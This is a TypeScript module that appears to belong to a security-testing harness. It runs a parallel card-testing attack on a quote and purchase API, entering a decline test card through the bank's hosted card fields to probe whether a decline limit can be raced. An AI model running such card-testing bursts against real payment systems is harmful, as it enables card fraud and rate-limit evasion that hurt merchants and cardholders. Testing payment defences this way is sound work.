import { randomBytes } from 'node:crypto';
import { setTimeout as sleep } from 'node:timers/promises';
import { createHttpCaller, type HttpCaller } from './http-caller.ts';
import type { Attack, Target } from './target.ts';

/** Stolen cards that are tried at once, each for a quote of its own. */
const cards = 55;
const declined = '4000000000000002';

type Ready = { quote: Record<string, unknown>; total: number };

/** Tries cards in parallel: a limit that counts a decline after it came from the bank would let them all pass. */
export const cardTries: Attack = async ({ target, count }) => {
  const caller = createHttpCaller(target, target.addresses[0]!);
  const prepared = await Promise.all(Array.from({ length: cards }, () => prepare(caller, target)));
  const ready = prepared.filter((one) => one !== null);
  count(`quotes ready ${ready.length}`);
  while (ready.length > 0 && Date.now() < target.ends) {
    const codes = await Promise.all(ready.map(() => secureCard(target)));
    const answers = await Promise.all(ready.map((one, at) => pay(caller, one, codes[at]!)));
    for (const status of answers) count(`purchase ${status}`);
    await sleep(2000);
  }
};

async function prepare(caller: HttpCaller, { draft }: Target): Promise<Ready | null> {
  const quote = await caller.start(draft);
  if (!quote) return null;
  const { status, data } = await caller.post('/api/quote/update', { ...draft, ...quote });
  return status === 200 ? { quote: { ...data, ...quote }, total: Number(data.netPrice) } : null;
}

async function pay(caller: HttpCaller, { quote, total }: Ready, code: string): Promise<number> {
  const { status } = await caller.post('/api/quote/purchase', {
    ...quote,
    payment: { cardType: 'visa', secureFieldCode: code },
    idempotencyKey: randomBytes(18).toString('base64url'),
    shownTotal: total,
  });
  return status;
}

/** Enters the card at the bank, as the fields of the page do. */
async function secureCard({ bank }: Target): Promise<string> {
  const code = randomBytes(32).toString('hex');
  const expiry = `12/${new Date().getFullYear() + 2}`;
  for (const [field, value] of Object.entries({ name: 'Some Body', card: declined, expiry, cvn: '123' })) {
    const answer = await fetch(`${bank.url}/fields/save`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ publicApiKey: bank.publicKey, code, field, value }),
    });
    await answer.arrayBuffer();
  }
  return code;
}
